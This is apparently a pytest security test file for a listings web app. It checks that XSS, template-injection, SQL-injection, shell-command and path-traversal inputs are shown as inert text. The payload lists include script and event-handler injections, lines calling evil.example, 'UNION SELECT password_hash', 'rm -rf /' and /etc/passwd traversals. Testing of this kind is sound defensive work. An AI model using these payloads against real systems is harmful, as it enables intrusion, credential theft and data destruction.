"""Hostile words are words: whatever is typed is shown as text, on every page and in every field."""

import json
from collections.abc import Iterator
from itertools import product

import pytest
from sqlalchemy import Engine, inspect
from sqlmodel import select

from matchmaker.accounts.models import Organisation, Person, Role
from matchmaker.core.text import clean_line, clean_text
from matchmaker.db.uow import unit_of_work
from matchmaker.listings.fields import BY_NAME, WORDED, fields_for
from matchmaker.listings.models import Direction, Listing
from matchmaker.review.service import Found, suggest
from tests.factories.html import Element, parse
from tests.factories.market import NEED, RESULT, publish, translate

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "--><img src=x onerror=alert(1)><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<x contenteditable onblur=alert(1)>\u2028\u2029</x>",
)
TEMPLATES = (
    "{{ 7*7777 }}",
    "{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "{{ config.SECRET_KEY }}",
    "${7*7777} #{7*7777} <%= 7*7777 %>",
    "%s %n %(title)s %(x)d 100%",
    "{0.__class__.__init__.__globals__}",
    "'; DROP TABLE listing; --",
    '" OR "1"="1',
    "' UNION SELECT password_hash FROM person --",
    "$(touch /tmp/owned) `id` ; rm -rf / #",
    "../../../../etc/passwd",
    '=HYPERLINK("http://evil.example","x")',
)
PAYLOADS = SCRIPTS + TEMPLATES
PLAIN = "plain words and nothing else"
# As many as lists need to have a second page.
PLAIN_PAIRS = 21

# Elements that the pages' own templates write, with their attributes.
Shape = tuple[str, frozenset[str]]


def shapes(page: Element) -> set[Shape]:
    return {(element.tag, frozenset(element.attributes)) for element in page.walk()}


def wordy(direction: Direction, words: str) -> dict[str, object]:
    """A listing with these words in every text field that it has."""
    sample = NEED if direction is Direction.NEED else RESULT
    worded = {field.name: words for field in fields_for(direction) if field.worded}
    return {**sample, **worded, "keywords": words.replace(",", " ")}


def fill(engine: Engine, person, words: str) -> list[Listing]:
    """A need and a result that say nothing but these words, also in a translation, and their owners' names."""
    made = []
    for direction, country in ((Direction.NEED, "CN"), (Direction.RESULT, "DE")):
        actor = person(country=country)
        with unit_of_work(engine) as uow:
            uow.session.get(Person, actor.person_id).name = words
            owner = uow.session.get(Organisation, actor.organisation_id)
            owner.name = owner.name_en = owner.city = words
        listing = publish(engine, actor, wordy(direction, words))
        translate(engine, actor, listing, lang="fr", **{name: words for name in WORDED})
        made.append(listing)
    return made


@pytest.fixture
def read_all(app):
    matcher = app.extensions["matchmaker.matcher"]
    # These tests put their own pairs on the desk.
    matcher.followers.clear()

    def read() -> None:
        while matcher.round():
            pass

    return read


def pages_of(listings: list[Listing]) -> Iterator[str]:
    """A page of one listing of each pair, a result in its original or a need in its translation, and the lists."""
    for listing in (pair[number % 2] for number, pair in enumerate(zip(listings[::2], listings[1::2], strict=True))):
        version = "fr" if listing.direction is Direction.NEED else ""
        yield f"/listings/{listing.public_id}?lang=en&text={version}"
    yield f"/listings/{listings[0].public_id}/matches?lang=en&scope=everywhere"
    yield "/?lang=en"
    yield "/search?lang=en"


@pytest.fixture
def put_on_the_desk(engine):
    """Suggest every need with every result."""

    def put() -> list[Listing]:
        with unit_of_work(engine) as uow:
            listings = list(uow.session.exec(select(Listing).order_by(Listing.id)))
            needs, results = ([x for x in listings if x.direction is direction] for direction in Direction)
            suggest(uow, [Found(need.id, result.id, 1.0) for need, result in zip(needs, results, strict=True)])
        return listings

    return put


@pytest.fixture
def market(engine, person, read_all, put_on_the_desk):
    """A market in which everybody says one of these words; answers all listings."""

    def make(*every: str) -> list[Listing]:
        for words in every:
            fill(engine, person, words)
        read_all()
        return put_on_the_desk()

    return make


@pytest.fixture
def plain_shapes(market, client, broker) -> set[Shape]:
    """What the pages consist of when nobody is hostile."""
    listings = market(*[PLAIN] * PLAIN_PAIRS)
    found = {shape for path in pages_of(listings[:4]) for shape in shapes(parse(client.get(path).text))}
    found |= shapes(parse(client.get("/search", query_string={"q": PLAIN, "lang": "en"}).text))
    return found | shapes(parse(broker.get("/desk?lang=en").text)) | shapes(parse(broker.get("/desk?page=2").text))


@pytest.fixture
def broker(signed_in):
    return signed_in(Role.BROKER)[0]


def check(text: str, allowed: set[Shape], path: str) -> Element:
    """The page holds nothing that its templates did not write."""
    page = parse(text)
    assert shapes(page) <= allowed, (path, shapes(page) - allowed)
    for element in page.walk():
        for name in ("href", "src", "action"):
            assert element.get(name).split(":")[0].strip().lower() not in {"javascript", "data", "vbscript"}, path
        assert not [name for name in element.attributes if name.startswith("on")], path
        if element.tag == "script":
            assert element.get("type") == "application/ld+json" or element.get("src").startswith("/static/"), path
    return page


def test_nothing_typed_becomes_a_part_of_any_page(market, client, plain_shapes, broker):
    for path in pages_of(market(*PAYLOADS)[-2 * len(PAYLOADS) :]):
        check(client.get(path).text, plain_shapes, path)
    for words in SCRIPTS:
        answer = client.get("/search", query_string={"q": words, "lang": "en"})
        page = check(answer.text, plain_shapes, words)
        assert page.all("input", id="q")[0].get("value") == clean_text(words)
    seen = ""
    for number in range(1, (PLAIN_PAIRS + len(PAYLOADS)) // 20 + 2):
        seen += check(broker.get(f"/desk?lang=en&page={number}").text, plain_shapes, "/desk").text
    assert not [words for words in PAYLOADS if clean_line(words) not in seen]


def test_the_words_are_shown_as_they_are_and_described_as_they_are(engine, person, client):
    for words in PAYLOADS:
        listing, _ = fill(engine, person, words)
        check_words(client, listing, words)


def check_words(client, listing: Listing, words: str) -> None:
    """The page's heading and its JSON-LD say exactly what was typed."""
    page = parse(client.get(f"/listings/{listing.public_id}?lang=en").text)
    kept = clean_line(words)
    assert page.all("h1")[0].text == kept
    assert page.all("title")[0].text.startswith(kept)
    (script,) = [s for s in page.all("script") if s.get("type") == "application/ld+json"]
    raw = "".join(script.words())
    assert "<" not in raw
    described = json.loads(raw)
    assert described["name"] == kept
    assert described["description"] == clean_text(words)
    assert described["@reverse"]["seeks"]["name"] == words


def test_a_form_gives_back_what_was_typed(signed_in):
    client, _ = signed_in()
    for words in SCRIPTS[:8]:
        check_form(client, words)


def check_form(client, words: str) -> None:
    typed = {field.name: words for field in BY_NAME.values() if field.widget not in {"checks", "countries"}}
    answer = client.post("/listings/new/need?lang=en", data={**typed, "action": "submit"})
    assert answer.status_code == 422
    page = parse(answer.text)
    assert page.all("input", name="title")[0].get("value") == words
    assert "".join(page.all("textarea", name="summary")[0].words()).strip("\n") == words
    assert page.all("input", name="deadline")[0].get("value") == words
    assert not [s for s in page.all("script") if not s.get("src").startswith("/static/")]


def test_the_door_gives_back_what_was_typed(client):
    for words, path in product(SCRIPTS[:8], ("/sign-in", "/register")):
        page = parse(client.post(path, data={"email": words, "name": words, "next": words, "password": words}).text)
        assert page.all("input", name="email")[0].get("value") == words
        assert page.all("input", name="next")[0].get("value") == words
        assert page.all("input", name="password")[0].get("value") == ""


def test_two_megabytes_in_any_field_are_refused_and_nothing_is_stored(signed_in, session):
    client, _ = signed_in()
    for name, (size, status) in product(WORDED, ((1_900_000, 422), (2_200_000, 413))):
        data = {"lang": "en", "title": "A valve", name: "x" * size, "action": "draft"}
        assert client.post(f"/listings/new/{min(BY_NAME[name].directions)}", data=data).status_code == status
    assert session.exec(select(Listing)).all() == []


def test_the_address_of_a_source_is_a_link_only_when_it_is_one(engine, person, client):
    listing = publish(engine, person(), NEED)
    for address in ["javascript:alert(1)", "data:text/html,<script>", "//evil.example"]:
        check_source(engine, client, listing, address)


def check_source(engine, client, listing: Listing, address: str) -> None:
    with unit_of_work(engine) as uow:
        row = uow.session.get(Listing, listing.id)
        row.source, row.source_id, row.source_url, row.licence = SCRIPTS[0], SCRIPTS[1], address, SCRIPTS[2]
    page = parse(client.get(f"/listings/{listing.public_id}").text)
    assert not [link for link in page.all("a") if address.strip() in link.get("href")]
    assert SCRIPTS[0] in page.text
    assert SCRIPTS[2] in page.text


def test_questions_to_the_database_stay_questions(engine, person, client):
    publish(engine, person(), NEED)
    tables = inspect(engine).get_table_names()
    for words in TEMPLATES:
        for name in (
            "q",
            "countries",
            "ipc_sections",
            "languages",
            "trls",
            "direction",
            "page",
            "text",
            "scope",
            "lang",
        ):
            assert client.get("/search", query_string={name: words}).status_code == 200
    assert inspect(engine).get_table_names() == tables
    assert parse(client.get("/search?lang=en").text).all("h2", class_="mm-listing-title")


ODD_PATHS = (
    "/listings/..%2f..%2fetc%2fpasswd",
    "/listings/%2e%2e/edit",
    "/listings/x/../../desk",
    "/listings/ /matches",
    "/listings/new/both",
    "/listings/mine/../../../etc/passwd",
    "/taxonomy/..%2f..%2fetc%2fpasswd.json",
    "/taxonomy/%00.json",
    "/.git/config",
    "/var/secret_key",
    "/static/../../var/secret_key",
    "//evil.example/%2e%2e",
)


def test_no_path_leads_anywhere_else(client):
    for path in ODD_PATHS:
        answer = client.get(path)
        assert answer.status_code in {303, 308, 404}, path
        assert "root:" not in answer.text, path
        assert (answer.location or "/").startswith(("/", "http://localhost/")), path
        assert not (answer.location or "/").startswith("//"), path
